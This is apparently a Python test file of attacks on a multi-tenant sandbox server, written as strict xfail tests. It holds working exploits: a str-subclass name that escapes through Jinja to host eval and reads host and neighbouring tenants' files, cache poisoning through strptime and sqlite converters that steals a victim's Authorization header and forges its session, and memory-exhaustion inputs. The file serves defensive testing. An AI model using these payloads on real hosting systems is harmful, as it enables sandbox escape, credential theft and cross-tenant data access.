"""Round 6: an independent attacker against main at 0a8caa6.

Each test asserts what a safe sandbox does and is a strict xfail while the
attack works on main (the repository's convention for attack rounds): an
XFAIL here is the attack succeeding; once a fix lands, the test XPASSes,
fails as strict, and its marker comes off.

Findings, by class:

1. *A tenant ``str`` subclass as an attribute name, judged by its own
   methods* (**full escape**). Jinja's ``|attr`` filter and its ``getitem``
   fallback (``f[n]``) call the real ``getattr(obj, n)`` with the tenant's
   object, then ask ``TenantJinjaEnv.is_safe_attribute``
   (``muxserver/tenant_api/templates.py:566``), which asks
   ``sandbox.guards.declared.readable`` (``sandbox/guards/declared.py:340``):
   neither insists on an exact ``str`` (``guarded_getattr`` does,
   ``sandbox/guards/access.py:126``). The name hashes and compares as
   ``"__globals__"`` for the real ``getattr``, then — switched by its own
   ``startswith`` — as a name no class defines, so ``readable`` finds no
   owner and takes a function's "dynamic" declaration
   (``sandbox/guards/language.py:60``): the host function's ``__globals__``,
   its ``__builtins__``, ``eval``: arbitrary host Python. With the process
   layer on (default isolation) the serving process still reads every
   tenant's ``/data`` (``gc.get_objects()`` -> each ``TenantFiles``).
2. *Tenant objects as keys of a process-wide cache, compared later in
   another tenant's request* (**cross-tenant**). ``datetime.strptime`` and
   ``time.strptime`` (``sandbox/facades/classes.py:59``, ``:85``) pass the
   tenant's format object to CPython's ``_strptime``, whose ``_regex_cache``
   keeps it as a key. A format whose ``__hash__`` is ``hash("%Y-%m-%d")``
   has its ``__eq__`` run by the next tenant that parses that format —
   inside that tenant's request: ``flask.request`` is the victim's
   (Authorization header), ``session`` is the victim's (written, then
   signed with the victim's key), ``after_this_request`` replaces the
   victim's response. Same class: ``sqlite3.register_converter``
   (``sandbox/facades/sqlite.py:241``) takes ``typename.upper()`` — the
   tenant's method — and keeps the result in the process-wide
   ``_dispatchers`` set and ``sqlite3.converters`` dict; a victim's
   ``register_converter("JSON", ...)`` and every row it fetches with
   ``detect_types`` then run the attacker's ``__eq__`` in the victim's request.
3. *Process-wide cache that grows for ever* (**DoS**, memory outside every
   budget). ``re.compile`` (``sandbox/facades/timed_re.py:245``) passes
   ``cache_pattern=False``, but ``regex`` still records every pattern in
   ``regex._main._locale_sensitive`` (unbounded; key ``(type(p), p)``). A
   ``str`` subclass pattern carrying a 40 MB attribute keeps 40 MB per
   request alive after the request, after the tenant's eviction and after
   a full collection.
4. *Growth in one C call* (**DoS**, the §11 class, new instances):
   ``json.loads`` / ``JSONDecoder.decode`` (``native_table.py:443``: "C"),
   ``io.BytesIO(...).readlines()`` and ``io.StringIO(...).readlines()``
   (``_io._IOBase.readlines`` is LINEAR, ``native_table.py:81``) build
   ~25-40 bytes of objects per input byte: 18 MB of JSON peaked at 470 MB,
   24 MB of lines at 700 MB, against a 32-64 MB budget.
5. *A member-name check asks the name itself* (**tenant code outside any
   request**, the §11 ``__del__`` class again). ``_check_member_names``
   (``sandbox/facades/classes.py:153``) refuses ``_`` names with
   ``name.startswith("_")``: a ``str`` subclass answers False, and
   ``enum.Enum("E", {Name("__del__"): f})`` makes a class whose members run
   the tenant's ``f`` when the collector frees them.
"""

import gc
import inspect
import sys

import pytest
import regex
import requests

from tests.conftest import Subprocess
from tests.conftest import write_tenant
from tests.sandbox.inprocess import SandboxHost
from tests.sandbox.inprocess import make_secrets
from tests.sandbox.rounds import LIMITS
from tests.sandbox.rounds import assert_contained
from tests.sandbox.rounds import attack_host
from tests.sandbox.rounds import serve
from tests.sandbox.rounds import serve_in_fresh_process

SECRET = "s3cr3t-r0und6"

#: A name that is "__globals__" to the real getattr and, once its own
#: startswith has been asked, a name no class defines.
SHAPESHIFTING_NAME = '''
class Name(str):
    def __str__(self):
        return self

    def __hash__(self):
        if self._flipped:
            return 12345
        return hash("__globals__")

    def __eq__(self, other):
        if self._flipped:
            return False
        return other == "__globals__"

    def startswith(self, *args):
        self._flipped = True
        return False


def shapeshifter():
    n = Name("__globals__")
    n._flipped = False
    return n
'''

#: Host Python run through the host function's builtins.
PAYLOAD = "__import__('pathlib').Path('SECRET_PATH').read_text()"


def jinja_escape(road: str, secret_path) -> str:
    reach = "f|attr(n)" if road == "attr" else "f[n]"
    template = ("{% set g = " + reach + " %}{{ g['__builtins__']['eval'](code) }}")
    return (SHAPESHIFTING_NAME
            + "import json\nfrom flask import render_template_string\n\n"
            + "def get():\n"
            + f"    return render_template_string({template!r}, f=json.dumps, n=shapeshifter(),\n"
            + f"                                  code={PAYLOAD.replace('SECRET_PATH', str(secret_path))!r})\n")


@pytest.fixture(scope="module")
def host(tmp_path_factory):
    yield from attack_host(tmp_path_factory, "round6", SECRET)


# -- 1. full escape through Jinja -----------------------------------------------


@pytest.mark.parametrize("road", ["attr", "getitem"])
def test_jinja_str_subclass_name_reaches_host_globals(host, road):
    outcome = serve(host, f"r6-jinja-{road}", jinja_escape(road, host.root / "secret.txt"))
    assert SECRET not in outcome.body, "the tenant ran host Python and read a host file"


#: Host Python that walks the collector's objects to every tenant's files
#: and reads what the neighbours keep in /data.
NEIGHBOURS_DATA = (
    "repr([[q.read_text() for q in __import__('pathlib').Path(f.data_root).rglob('*.txt')] "
    "for f in __import__('gc').get_objects() if type(f).__name__ == 'TenantFiles' "
    "and f.data_root and __import__('os').path.isdir(f.data_root)])")


def test_jinja_escape_reads_a_neighbours_data_with_isolation_on(tmp_path):
    tenants = tmp_path / "tenants"
    template = "{% set g = f|attr(n) %}{{ g['__builtins__']['eval'](code) }}"
    write_tenant(tenants, "escapee", {"index.py": (
        SHAPESHIFTING_NAME + "import json\nfrom flask import render_template_string\n\n"
        "def get():\n"
        f"    return render_template_string({template!r}, f=json.dumps, n=shapeshifter(),\n"
        f"                                  code={NEIGHBOURS_DATA!r})\n")})
    write_tenant(tenants, "neighbour", {"index.py": (
        "def get():\n"
        "    with open('/data/private.txt', 'w') as f:\n"
        "        f.write('neighbour-private-data')\n"
        "    return 'ok'\n")})
    proc = Subprocess(["--tenants-dir", str(tenants), "--cache-dir", str(tmp_path / "cache"),
                       "--data-dir", str(tmp_path / "data"), "--no-watch", "--workers", "1"],
                      log_dir=tmp_path).wait_ready()
    try:
        assert requests.get(proc.url + "/neighbour/", timeout=30).text == "ok"
        body = requests.get(proc.url + "/escapee/", timeout=30).text
    finally:
        proc.stop()
    assert "neighbour-private-data" not in body, body


# -- 2. cross-tenant through _strptime's cache ------------------------------------

EAVESDROPPER = '''
import datetime
from flask import request, session, after_this_request
stolen = []

def rewrite(response):
    response.set_data("rewritten by the eavesdropper")
    return response

class Format(str):
    def __hash__(self):
        return hash("%Y-%m-%d")       # the format the victim parses with

    def __eq__(self, other):
        # Runs inside the victim's request, when its strptime looks its
        # format up in the cache every tenant shares.
        if request:
            stolen.append(str(request.headers.get("Authorization")))
            session["user"] = "admin"
            after_this_request(rewrite)
        return False

def get():
    if not stolen:
        for f in ("%d", "%m", "%H", "%M", "%S", "%j"):
            datetime.datetime.strptime("1", f)   # past 5 entries: the cache starts again
        datetime.datetime.strptime("2024", Format("%Y"))
        return "planted"
    return "stolen: " + " | ".join(stolen)
'''

VICTIM = '''
import datetime
from flask import request, session
def get():
    d = datetime.datetime.strptime(request.args.get("d", "2024-01-02"), "%Y-%m-%d")
    return "parsed " + d.date().isoformat() + " user=" + str(session.get("user"))
'''


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """A real muxserver process, one serving process, the language layer
    alone (--isolation off), as test_attacks_http.py runs it."""
    root = tmp_path_factory.mktemp("round6-http")
    secret_file, _ = make_secrets(root, SECRET)
    tenants = root / "tenants"
    write_tenant(tenants, "eavesdropper", {"index.py": EAVESDROPPER})
    write_tenant(tenants, "victim", {"index.py": VICTIM})
    write_tenant(tenants, "jinja", {"index.py": jinja_escape("attr", secret_file)})
    proc = Subprocess(["--tenants-dir", str(tenants), "--cache-dir", str(root / "cache"),
                       "--data-dir", str(root / "data"), "--isolation", "off", "--no-watch",
                       "--workers", "1"],
                      env={"MUX_TEST_SECRET": SECRET}, log_dir=root).wait_ready()
    yield proc
    proc.stop()


def test_jinja_escape_over_http(server):
    response = requests.get(server.url + "/jinja/", timeout=30)
    assert SECRET not in response.text, "the tenant read a host file over HTTP"


def test_strptime_cache_runs_code_in_the_victims_request(server):
    # Refused since: its module fails to load (a str subclass defining __hash__).
    requests.get(server.url + "/eavesdropper/", timeout=30)
    victim = requests.get(server.url + "/victim/?d=2024-05-06", timeout=30,
                          headers={"Authorization": "Bearer victim-token"})
    stolen = requests.get(server.url + "/eavesdropper/", timeout=30).text
    assert "victim-token" not in stolen, f"the eavesdropper read the victim's header: {stolen}"
    assert victim.text == "parsed 2024-05-06 user=None", \
        f"the victim's session or response was changed by another tenant: {victim.text!r}"


CONVERTER_EAVESDROPPER = '''
import sqlite3
from flask import request
stolen = []

class TypeName(str):
    def upper(self):
        return self

    def __hash__(self):
        return hash("JSON")

    def __eq__(self, other):
        if request:
            stolen.append(str(request.headers.get("Authorization")))
        return other == "JSON"

def get():
    if not stolen:
        sqlite3.register_converter(TypeName("jsonx"), lambda b: b)
        return "planted"
    return "stolen: " + " | ".join(stolen)
'''

CONVERTER_VICTIM = '''
import sqlite3, json
def get():
    sqlite3.register_converter("JSON", json.loads)
    db = sqlite3.connect("/data/v.db", detect_types=sqlite3.PARSE_DECLTYPES)
    db.execute("CREATE TABLE IF NOT EXISTS t (x JSON)")
    db.execute("INSERT INTO t VALUES (?)", (\'{"a": 1}\',))
    return repr(db.execute("SELECT x FROM t").fetchone())
'''


def test_sqlite_converter_registry_runs_code_in_the_victims_request(tmp_path):
    host = SandboxHost(tmp_path)
    host.write("r6-conv-evil", {"index.py": CONVERTER_EAVESDROPPER}, LIMITS)
    host.write("r6-conv-victim", {"index.py": CONVERTER_VICTIM}, LIMITS)
    host.request("r6-conv-evil")  # refused since: TypeName redefines upper and __eq__
    assert host.request("r6-conv-victim", headers={"Authorization": "Bearer victim-token"}
                        ).body == "({'a': 1},)"
    stolen = host.request("r6-conv-evil").body
    assert "victim-token" not in stolen, stolen


# -- 3. growth in one C call ---------------------------------------------------------

#: Each case runs in a fresh process: run after another case that grew the
#: heap, a case reuses that memory and its peak no longer shows.
ONE_CALL_GROWTH = {
    "json_loads": 'import json\nTEXT = "[" + "[]," * (4 * 1024 * 1024) + "[]]"\n'
                  'def get():\n    return str(len(json.loads(TEXT)))\n',
    "json_decoder_decode": 'import json\nTEXT = "[" + "[]," * (4 * 1024 * 1024) + "[]]"\n'
                           'def get():\n    return str(len(json.JSONDecoder().decode(TEXT)))\n',
    "bytesio_readlines": 'import io\ndef get():\n'
                         '    return str(len(io.BytesIO(b"a\\n" * (6 * 1024 * 1024)).readlines()))\n',
    "stringio_readlines": 'import io\ndef get():\n'
                          '    return str(len(io.StringIO("a\\n" * (6 * 1024 * 1024)).readlines()))\n',
}


@pytest.mark.parametrize("case", sorted(ONE_CALL_GROWTH))
def test_one_call_growth(tmp_path, case):
    assert_contained(serve_in_fresh_process(tmp_path, "r6-growth", ONE_CALL_GROWTH[case]))


# -- 4. regex's process-wide locale cache ------------------------------------------

PATTERN_HOLDS_PAYLOAD = '''
import re, random
class Pattern(str):
    pass
def get():
    p = Pattern("leak-" + str(random.random()))
    p.payload = "x" * (12 * 1024 * 1024)
    re.compile(p)
    return "ok"
'''


def _rss_mb() -> int:
    with open("/proc/self/statm") as f:
        return int(f.read().split()[1]) * 4096 // 2**20


def test_regex_locale_cache_keeps_tenant_objects_after_eviction(tmp_path):
    cache = inspect.getmodule(regex.compile)._locale_sensitive
    host = SandboxHost(tmp_path)
    before_entries = len(cache)
    gc.collect()
    before = _rss_mb()
    for i in range(5):
        name = f"r6-leak-{i}"
        host.write(name, {"index.py": PATTERN_HOLDS_PAYLOAD}, LIMITS)
        assert host.request(name).status == 200
        host.close(name)  # evicted: its runtime closed, gc.collect()
    gc.collect()
    kept = [key for key in list(cache)[before_entries:]
            if getattr(key[0], "__name__", "") == "Pattern"]
    grown = _rss_mb() - before
    assert not kept and grown < 24, \
        f"{len(kept)} tenant patterns outlive their tenants; RSS grew {grown} MB"
    assert len(cache) <= before_entries, "each distinct pattern stays in regex's notes"


# -- 5. Enum's functional API with a name that denies its own underscore ---------------

ENUM_FINALIZER = '''
import enum

class Name(str):
    def startswith(self, *args):
        return False

def finalizer(self):
    raise ValueError("the tenant's __del__ ran at collection")

E = enum.Enum("E", {Name("__del__"): finalizer, "A": 1, "B": 2})

def get():
    return repr(list(E))
'''


def test_enum_member_name_smuggles_del(host):
    outcome = serve(host, "r6-enum-del", ENUM_FINALIZER)  # serve() closes it: a collection
    assert outcome.status == 500 or "at collection" not in host.logs["r6-enum-del"][-1], \
        host.logs["r6-enum-del"]


if __name__ == "__main__":  # pragma: no cover
    sys.exit(pytest.main([__file__, "-q"]))
